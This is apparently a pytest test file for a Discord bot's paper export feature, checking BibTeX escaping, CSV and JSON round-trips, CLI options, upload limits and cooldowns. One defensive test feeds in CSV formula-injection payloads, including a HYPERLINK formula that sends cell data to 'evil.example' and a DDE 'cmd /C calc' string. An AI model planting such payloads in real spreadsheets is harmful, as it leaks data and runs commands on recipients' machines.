"""Exports: BibTeX, CSV and JSON files of papers, from `/papers export` and `paperbot export`.

Every format is read back (BibTeX with the small parser below, CSV with the csv
module, JSON with pydantic) and compared with the papers that went in.
"""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import json
import re
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from digests import exports
from bot.__main__ import app
from storage import db
from storage import papers as store
from storage.models import StoredPaper
from testing import interactions as fake_interactions
from tests.world import EPHEMERAL, World, assert_private_error

# Corpus papers whose titles or authors carry what BibTeX and CSV must escape.
AWKWARD_IDS = {
    "2409.20566": "&",
    "2502.11901": "%",
    "2411.16754": "_ and ^",
    "2409.10836": "$, braces and ^",
    "2410.04717": "a backslash command",
    "2410.09342": "$\\times$",
    "2501.06252": "\\text{…}^2",
    "2502.11995": "Lucie-Aimée Kaffee",
}


def made_up(**changes) -> StoredPaper:
    fields = dict(
        arxiv_id="2503.00001",
        title="A {lone brace, a ~tilde~ & #hash: 100% of $5 \\ costs}} {",
        url="https://arxiv.org/abs/2503.00001",
        authors=["Ana O'Neil", "Tom and Jerry Lab", "Smith, J.", "Zoë Ørsted-Łukasz", "李雷"],
        summary='A summary with, commas, "quotes"\nand a new line;\r\nand a semicolon.',
        tags=["Natural Language Processing", "Q&A"],
        github_urls=["https://github.com/a/b"],
        huggingface_urls=["https://huggingface.co/a/b", "https://huggingface.co/datasets/c"],
        days=[dt.date(2025, 3, 3), dt.date(2025, 3, 4)],
        sources=["seed"],
    )
    return StoredPaper(**{**fields, **changes})


@pytest.fixture
async def awkward(library) -> list[StoredPaper]:
    found = [await library_get(library, arxiv_id) for arxiv_id in AWKWARD_IDS]
    return [*found, made_up()]


async def library_get(conn, arxiv_id: str) -> StoredPaper:
    paper = await store.get_paper(conn, arxiv_id)
    assert paper is not None, f"{arxiv_id} ({AWKWARD_IDS[arxiv_id]}) is not in the corpus any more"
    return paper


# ----- a tolerant BibTeX reader ---------------------------------------------------------------

_UNESCAPES = {
    r"\textbackslash{}": "\\", r"\textbraceleft{}": "{", r"\textbraceright{}": "}",
    r"\^{}": "^", r"\~{}": "~", r"\{": "{", r"\}": "}", r"\%": "%", r"\&": "&", r"\$": "$", r"\#": "#", r"\_": "_",
}
_UNESCAPE = re.compile("|".join(re.escape(k) for k in sorted(_UNESCAPES, key=len, reverse=True)))


def unescape(value: str) -> str:
    return _UNESCAPE.sub(lambda m: _UNESCAPES[m.group()], value)


def braced(text: str, start: int) -> tuple[str, int]:
    """The text inside the braces opening at `start`, counted as BibTeX does (every brace), and the end."""
    assert text[start] == "{", text[start:start + 40]
    depth = 0
    for position in range(start, len(text)):
        depth += {"{": 1, "}": -1}.get(text[position], 0)
        if depth == 0:
            return text[start + 1 : position], position + 1
    raise AssertionError(f"unbalanced braces from {text[start:start + 60]!r}")


def split_top_level(value: str, separator: str) -> list[str]:
    parts, depth, current, position = [], 0, [], 0
    while position < len(value):
        if depth == 0 and value.startswith(separator, position):
            parts.append("".join(current))
            current, position = [], position + len(separator)
            continue
        depth += {"{": 1, "}": -1}.get(value[position], 0)
        current.append(value[position])
        position += 1
    return [*parts, "".join(current)]


def parse_bibtex(text: str) -> list[dict[str, str]]:
    """Entries as {"ENTRYTYPE", "ID", field: raw value}; raises on anything malformed."""
    entries = []
    for match in re.finditer(r"@(\w+)\s*(?=\{)", text):
        body, _ = braced(text, match.end())
        key, _, rest = body.partition(",")
        entry = {"ENTRYTYPE": match.group(1).lower(), "ID": key.strip()}
        position = 0
        while True:
            field = re.compile(r"\s*(\w+)\s*=\s*").match(rest, position)
            if not field:
                break
            value, position = braced(rest, field.end())
            assert field.group(1).lower() not in entry, f"field {field.group(1)} twice in {key}"
            entry[field.group(1).lower()] = value
            position = re.compile(r"\s*,?").match(rest, position).end()
        assert rest[position:].strip() == "", f"unparsed text in {key}: {rest[position:]!r}"
        entries.append(entry)
    return entries


def bibtex_authors(value: str) -> list[str]:
    names = [name.strip() for name in split_top_level(value, " and ")]
    return [unescape(name[1:-1] if name.startswith("{") and name.endswith("}") else name) for name in names]


# ----- BibTeX ---------------------------------------------------------------------------------


async def test_bibtex_round_trips_awkward_titles_authors_and_ids(awkward: list[StoredPaper]) -> None:
    text = exports.to_bibtex(awkward)
    entries = parse_bibtex(text)
    assert len(entries) == len(awkward)
    for paper, entry in zip(awkward, entries):
        assert entry["ENTRYTYPE"] == "misc"
        assert entry["ID"] == paper.arxiv_id
        assert unescape(entry["title"]) == " ".join(paper.title.split())
        assert bibtex_authors(entry["author"]) == paper.authors
        assert unescape(entry["eprint"]) == paper.arxiv_id
        assert entry["archiveprefix"] == "arXiv"
        assert entry["url"] == paper.url
        assert unescape(entry.get("note", "")) == ", ".join(paper.tags)
    assert "Lucie-Aimée Kaffee" in text, "Unicode is kept, not transliterated"
    assert r"LLM\$\textbackslash{}times\$MapReduce" in text


async def test_bibtex_has_no_unescaped_special_characters(awkward: list[StoredPaper]) -> None:
    for entry in parse_bibtex(exports.to_bibtex(awkward)):
        for name in ("title", "author", "note"):
            value = entry.get(name, "")
            without_escapes = _UNESCAPE.sub("", value)
            assert not re.search(r"[%&$#_^~\\]", without_escapes), (name, value)


@settings(max_examples=200, deadline=None)
@given(title=st.text(alphabet=st.sampled_from(list("{}%&$#_^~\\ ab\nÉ字,=@\"")) | st.characters(), min_size=1))
def test_bibtex_round_trips_any_title(title: str) -> None:
    if not title.split():
        title = "x" + title
    paper = made_up(title=title, authors=[title])
    [entry] = parse_bibtex(exports.to_bibtex([paper]))
    assert unescape(entry["title"]) == " ".join(title.split())
    assert bibtex_authors(entry["author"]) == [" ".join(title.split())]


def test_bibtex_keys_are_valid_and_unique() -> None:
    papers = [made_up(), made_up(), made_up(arxiv_id="hep-th/9901001"), made_up(arxiv_id="2503.00001v2 {x}")]
    ids = [entry["ID"] for entry in parse_bibtex(exports.to_bibtex(papers))]
    assert ids[0] == "2503.00001" and len({i.lower() for i in ids}) == len(ids)
    assert all(re.fullmatch(r"[A-Za-z0-9:._-]+", key) for key in ids), ids


@pytest.mark.parametrize(
    ("arxiv_id", "days", "year"),
    [
        ("2502.11995", [], 2025),
        ("0704.0001", [], 2007),
        ("hep-th/9901001", [], 1999),
        ("math.GT/0309136", [], 2003),
        ("not-an-id", [dt.date(2024, 12, 31)], 2024),
        ("not-an-id", [], None),
    ],
)
def test_year_from_the_id_or_the_first_day(arxiv_id: str, days: list[dt.date], year: int | None) -> None:
    paper = made_up(arxiv_id=arxiv_id, days=days)
    assert exports.paper_year(paper) == year
    [entry] = parse_bibtex(exports.to_bibtex([paper]))
    assert entry.get("year") == (str(year) if year else None)


def test_empty_export_is_empty_or_header_only() -> None:
    assert exports.to_bibtex([]) == ""
    assert list(csv.reader(io.StringIO(exports.to_csv([]), newline=""))) == [list(exports.CSV_COLUMNS)]
    assert json.loads(exports.to_json([])) == []


# ----- CSV and JSON ---------------------------------------------------------------------------


def read_csv(text: str, *, unguarded: bool = False) -> list[dict[str, str]]:
    """The rows; `unguarded`: with the `'` that keeps a spreadsheet from running a cell taken off again."""
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert tuple(reader.fieldnames or ()) == exports.CSV_COLUMNS
    rows = list(reader)
    if unguarded:
        rows = [{key: unguard(cell) for key, cell in row.items()} for row in rows]
    return rows


def unguard(cell: str) -> str:
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(exports.FORMULA_STARTS) else cell


def split_list(cell: str) -> list[str]:
    return cell.split(exports.LIST_SEPARATOR) if cell else []


async def test_csv_round_trips_commas_quotes_and_new_lines(awkward: list[StoredPaper]) -> None:
    rows = read_csv(exports.to_csv(awkward), unguarded=True)
    assert len(rows) == len(awkward)
    for paper, row in zip(awkward, rows):
        assert (row["arxiv_id"], row["title"], row["url"], row["summary"]) == (
            paper.arxiv_id, paper.title, paper.url, paper.summary,
        )
        assert split_list(row["authors"]) == paper.authors
        assert split_list(row["tags"]) == paper.tags
        assert split_list(row["github_urls"]) == paper.github_urls
        assert split_list(row["huggingface_urls"]) == paper.huggingface_urls
        assert [dt.date.fromisoformat(d) for d in split_list(row["days"])] == paper.days
    assert "\n" in rows[-1]["summary"] and '"quotes"' in rows[-1]["summary"]


@pytest.mark.parametrize("hostile", ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "@SUM(1+1)*cmd|' /C calc'!A0",
                                     "+1+1", "-2+3", "\t=1+1", "\r=1+1"])
def test_csv_cells_a_spreadsheet_would_run_are_neutralised(hostile: str) -> None:
    paper = StoredPaper(arxiv_id="2502.00001", title=hostile, url="https://arxiv.org/abs/2502.00001",
                        authors=[hostile, "Ada"], summary=hostile, tags=[hostile], days=[dt.date(2025, 2, 3)])
    (row,) = read_csv(exports.to_csv([paper]))
    for column in ("title", "summary", "authors", "tags"):
        assert row[column].startswith("'" + hostile), column
    assert row["arxiv_id"] == "2502.00001" and row["days"] == "2025-02-03"


def test_csv_cells_that_only_contain_formula_characters_are_left_alone() -> None:
    assert exports.csv_cell("Plain = text, a + b - c @ home") == "Plain = text, a + b - c @ home"
    assert exports.csv_cell("") == ""


async def test_json_round_trips_exactly(awkward: list[StoredPaper]) -> None:
    text = exports.to_json(awkward)
    assert [StoredPaper.model_validate(item) for item in json.loads(text)] == awkward
    assert "Lucie-Aimée" in text


def test_formats_name_function_extension_and_mime_type() -> None:
    assert set(exports.FORMATS) == {"bibtex", "csv", "json"}
    for name, (render, extension, mime_type) in exports.FORMATS.items():
        assert callable(render) and extension and "/" in mime_type
    assert exports.FORMATS["bibtex"].extension == "bib"
    assert exports.file_slug("Text-to-Video") == "text-to-video"
    assert exports.file_slug('"video diffusion" -gan') == "video-diffusion-gan"
    assert exports.file_slug("***") == "papers"


async def test_matching_papers_gets_everything_in_search_order(library) -> None:
    robotics = next(t for t in await store.tag_counts(library) if t.name == "Robotics")
    found, count = await exports.matching_papers(library, tag="Robotics")
    assert count.total == robotics.count == len(found) == len({p.arxiv_id for p in found})
    some = await exports.matching_papers(library, query="model", limit=10)
    assert len(some.papers) == 10 and some.count.total > 10 and not some.complete
    every = await exports.matching_papers(library, query="robot*")
    assert every.complete and len(every.papers) == every.count.total > 30
    paged = [hit.paper.arxiv_id for offset in range(0, every.count.total, 7)
             for hit in (await store.search(library, "robot*", limit=7, offset=offset)).hits]
    assert [paper.arxiv_id for paper in every.papers] == paged
    with pytest.raises(ValueError):
        await exports.matching_papers(library)


async def test_an_export_walks_the_index_once_not_once_per_page(library, monkeypatch: pytest.MonkeyPatch) -> None:
    import storage.search

    walks = []
    newest_matches = storage.search._newest_matches

    async def counted(conn, match):
        walks.append(match)
        return await newest_matches(conn, match)

    monkeypatch.setattr(storage.search, "_newest_matches", counted)
    found = await exports.matching_papers(library, query="model", limit=1000)
    assert len(found.papers) == 1000 and len(walks) == 1


async def test_an_export_too_costly_for_its_budget_is_refused(library, monkeypatch: pytest.MonkeyPatch) -> None:
    from storage.search_query import QueryTooBroad

    monkeypatch.setattr(exports, "EXPORT_BUDGET_SECONDS", 0)
    with pytest.raises(QueryTooBroad, match="add a word"):
        await exports.matching_papers(library, query="model", limit=1000)


# ----- paperbot export ------------------------------------------------------------------------


def stored_tag_count(path: Path, name: str) -> int:
    async def count() -> int:
        conn = await db.connect(path)
        try:
            return next(t.count for t in await store.tag_counts(conn) if t.name == name)
        finally:
            await conn.close()

    return asyncio.run(count())


@pytest.fixture
def cli(library_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.chdir(tmp_path)  # no ./config.toml
    monkeypatch.setenv("PAPERBOT_DATABASE__PATH", str(library_path))
    runner = CliRunner()

    def run(*args: str):
        return runner.invoke(app, ["export", *args])

    return run


def test_cli_exports_a_tag_as_csv_to_stdout(cli, library_path: Path) -> None:
    result = cli("--tag", "robotics", "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = read_csv(result.stdout)
    assert len(rows) == stored_tag_count(library_path, "Robotics")
    assert all("Robotics" in split_list(row["tags"]) for row in rows)


def test_cli_exports_a_query_as_json(cli) -> None:
    result = cli("--query", "Kaffee", "-f", "json")
    assert result.exit_code == 0, result.output
    exported = [StoredPaper.model_validate(item) for item in json.loads(result.stdout)]
    assert "2502.11995" in {p.arxiv_id for p in exported}


def test_cli_writes_bibtex_to_a_file(cli, library_path: Path, tmp_path: Path) -> None:
    target = tmp_path / "out" / "robotics.bib"
    target.parent.mkdir()
    result = cli("--tag", "Robotics", "--output", str(target))
    assert result.exit_code == 0, result.output
    assert result.stdout == "" and f"to {target}" in result.stderr
    entries = parse_bibtex(target.read_text(encoding="utf-8"))
    assert len(entries) == stored_tag_count(library_path, "Robotics")
    assert len({e["ID"] for e in entries}) == len(entries)


@pytest.mark.parametrize(
    ("args", "message"),
    [
        ((), "exactly one of --query or --tag"),
        (("--query", "video", "--tag", "Robotics"), "exactly one of --query or --tag"),
        (("--tag", "Robotcs"), "did you mean Robotics"),
        (("--query", "zyzzyva quux"), "no papers match"),
        (("--query", "***"), "no words"),
    ],
)
def test_cli_errors_are_clear(cli, args: tuple[str, ...], message: str) -> None:
    result = cli(*args)
    assert result.exit_code == 1
    assert message.lower() in " ".join(result.stderr.split()).lower(), result.stderr
    assert "Traceback" not in result.output


def test_cli_rejects_an_unknown_format(cli) -> None:
    result = cli("--tag", "Robotics", "--format", "xml")
    assert result.exit_code == 2


# ----- /papers export -------------------------------------------------------------------------


def exported_file(world: World):
    request = next(r for r in reversed(world.fake.requests_to("POST", "/webhooks/{webhook_id}/{token}")) if r.files)
    return request, request.files[0]


async def test_export_command_is_synced(world: World) -> None:
    options = {o["name"]: o for o in world.fake.commands[None]["papers"]["options"]}
    export = {o["name"]: o for o in options["export"]["options"]}
    assert {c["value"] for c in export["format"]["choices"]} == {"bibtex", "csv", "json"}
    assert not any(option.get("required") for option in export.values())
    assert export["tag"].get("autocomplete")


async def test_export_a_tag_as_csv_end_to_end(world: World) -> None:
    handle, _ = await world.command("papers", "export", tag="robotics", format="csv")
    response = await handle.response()
    assert response["type"] == 5 and response["data"]["flags"] & EPHEMERAL, "deferred, thinking, private"
    message = await handle.followup()
    request, uploaded = exported_file(world)
    assert uploaded.filename == "paperbot-robotics.csv"
    assert request.json["allowed_mentions"] == {"parse": []}
    assert message["flags"] & EPHEMERAL
    rows = read_csv(uploaded.data.decode("utf-8"))
    expected = next(t.count for t in await store.tag_counts(world.bot.db) if t.name == "Robotics")
    assert len(rows) == expected
    assert f"{expected} papers tagged **Robotics**, as CSV" in message["content"]
    assert message["attachments"][0]["filename"] == "paperbot-robotics.csv"


async def test_export_a_query_as_bibtex_by_default(world: World) -> None:
    handle, _ = await world.command("papers", "export", query="Kaffee")
    message = await handle.followup()
    _, uploaded = exported_file(world)
    assert uploaded.filename == "paperbot-kaffee.bib"
    entries = {e["ID"]: e for e in parse_bibtex(uploaded.data.decode("utf-8"))}
    assert bibtex_authors(entries["2502.11995"]["author"])[0] == "Lucie-Aimée Kaffee"
    assert "as BibTeX" in message["content"]


async def test_export_json_round_trips_the_stored_papers(world: World) -> None:
    handle, _ = await world.command("papers", "export", query="MapReduce OR Kaffee", format="json")
    await handle.followup()
    _, uploaded = exported_file(world)
    exported = [StoredPaper.model_validate(item) for item in json.loads(uploaded.data)]
    assert {"2410.09342", "2502.11995"} <= {p.arxiv_id for p in exported}
    for paper in exported:
        assert paper == await store.get_paper(world.bot.db, paper.arxiv_id)


async def test_an_export_too_large_to_upload_is_explained(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(fake_interactions, "ATTACHMENT_SIZE_LIMIT", 1000)  # what Discord says the limit is
    handle, _ = await world.command("papers", "export", tag="Robotics", format="json")
    message = await handle.followup()
    assert message["flags"] & EPHEMERAL and not message.get("attachments")
    assert "more than discord lets me upload" in message["embeds"][0]["description"].lower()


async def test_export_is_capped_and_says_so(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    cog_module = sys.modules[type(world.bot.get_cog("Papers")).__module__]  # discord.py loads extensions afresh
    monkeypatch.setattr(cog_module, "EXPORT_LIMIT", 3)
    handle, _ = await world.command("papers", "export", query="model", format="json")
    message = await handle.followup()
    _, uploaded = exported_file(world)
    assert len(json.loads(uploaded.data)) == 3
    total = (await store.search(world.bot.db, "model", limit=1)).total_text
    assert f"first 3 of {total} papers" in message["content"] and "at most 3" in message["content"]


async def test_export_cut_at_the_limit_of_an_uncounted_search_says_there_are_more(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    import storage.search

    monkeypatch.setattr(storage.search, "RANKED_MATCHES", 4)  # search stops counting after 4 matches
    cog_module = sys.modules[type(world.bot.get_cog("Papers")).__module__]
    monkeypatch.setattr(cog_module, "EXPORT_LIMIT", 4)
    handle, _ = await world.command("papers", "export", query="model", format="json")
    message = await handle.followup()
    assert len(json.loads(exported_file(world)[1].data)) == 4
    total = (await storage.search.search(world.bot.db, "model", limit=1)).total_text
    assert total.endswith("+")  # the newest 4 matches and the title matches beyond them: a lower bound
    assert f"first 4 of {total} papers" in message["content"]


async def test_export_with_no_match(world: World) -> None:
    _, response = await world.command("papers", "export", query="zyzzyva quux")
    assert_private_error(response, "no papers match", "zyzzyva quux")


async def test_export_of_an_unknown_tag_suggests_the_closest(world: World) -> None:
    _, response = await world.command("papers", "export", tag="Robotcs")
    assert_private_error(response, "Robotcs", "did you mean", "Robotics")


@pytest.mark.parametrize("options", [{}, {"query": "video", "tag": "Robotics"}, {"format": "csv"}])
async def test_export_needs_exactly_one_of_query_and_tag(world: World, options: dict) -> None:
    _, response = await world.command("papers", "export", **options)
    assert_private_error(response, "either `query` or `tag`")


@pytest.mark.commands(export_rate=1, export_per_seconds=60)
async def test_export_has_its_own_cooldown(world: World) -> None:
    handle, _ = await world.command("papers", "export", tag="Robotics")
    await handle.followup()
    _, response = await world.command("papers", "export", tag="Robotics")
    assert_private_error(response, "slow down")
    _, search = await world.command("papers", "search", query="robot")  # searching is not held back by it
    assert search["data"]["embeds"][0]["title"].startswith("🔎")
